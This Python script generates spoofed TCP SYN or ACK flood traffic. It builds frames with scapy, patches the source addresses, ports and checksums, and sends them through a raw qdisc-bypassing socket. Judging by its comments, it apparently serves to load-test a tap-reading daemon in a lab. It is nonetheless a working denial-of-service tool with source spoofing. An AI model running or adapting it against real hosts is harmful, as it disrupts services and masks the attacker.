#!/usr/bin/python3
"""synflood.py IFACE SRC_MAC DST_MAC DST N PREFIX16 DPORT [FLAGS]

N TCP SYNs (FLAGS S; or A: bare ACKs, with random acknowledgment numbers)
to DST:DPORT, each from a random address of PREFIX16 (say 10.200:
10.200.0.1 to 10.200.255.254) and a random port, sent on IFACE
through an AF_PACKET socket that bypasses the qdisc (a frame the tap
cannot take fails to send: sent again, a millisecond later).  The first is built
by scapy; the others are it with the source, port and sequence number
changed and both checksums made again (scapy would take seconds for each
thousand), each checked against scapy's for a few of them.  Paced: a
pause of 5 ms every 100 frames.  Prints the number sent.
"""
import random
import socket
import struct
import sys
import time

from scapy.all import IP, TCP, Ether, raw

iface, smac, dmac, dst, n, prefix, dport = sys.argv[1:8]
n, dport = int(n), int(dport)
flags = sys.argv[8] if len(sys.argv) > 8 else "S"
rnd = random.Random(4987 if flags == "S" else 1337)  # ACKs from other ends than the SYNs


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def scapy_syn(src, sport, seq, ack):
    return raw(
        Ether(src=smac, dst=dmac)
        / IP(src=src, dst=dst, ttl=64)
        / TCP(sport=sport, dport=dport, flags=flags, seq=seq, ack=ack, window=64240, options=[("MSS", 1460)])
    )


template = bytearray(scapy_syn("0.0.0.0", 1, 0, 0))


def syn(src, sport, seq, ack):
    f = bytearray(template)
    f[26:30] = socket.inet_aton(src)
    f[24:26] = b"\0\0"
    f[24:26] = struct.pack("!H", csum(bytes(f[14:34])))
    f[34:36] = struct.pack("!H", sport)
    f[38:42] = struct.pack("!I", seq)
    f[42:46] = struct.pack("!I", ack)
    f[50:52] = b"\0\0"
    tcp = bytes(f[34:])
    pseudo = f[26:34] + struct.pack("!BBH", 0, 6, len(tcp))
    f[50:52] = struct.pack("!H", csum(bytes(pseudo) + tcp))
    return bytes(f)


frames = []
for i in range(n):
    src = "%s.%d.%d" % (prefix, rnd.randrange(256), rnd.randrange(1, 255))
    sport, seq = rnd.randrange(1024, 65536), rnd.getrandbits(32)
    ack = rnd.getrandbits(32) if "A" in flags else 0
    frames.append(syn(src, sport, seq, ack))
    if i < 5 and frames[-1] != scapy_syn(src, sport, seq, ack):
        sys.exit("frame %d differs from scapy's" % i)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
s.bind((iface, 0))
sent = 0
for i, f in enumerate(frames):
    # The tap's queue full (sonded reading slower than this writes): the
    # send fails, and is tried again, 1 ms later, for up to a second.
    for _ in range(1000):
        try:
            s.send(f)
            sent += 1
            break
        except OSError:
            time.sleep(0.001)
    if i % 100 == 99:
        time.sleep(0.005)
print(sent)
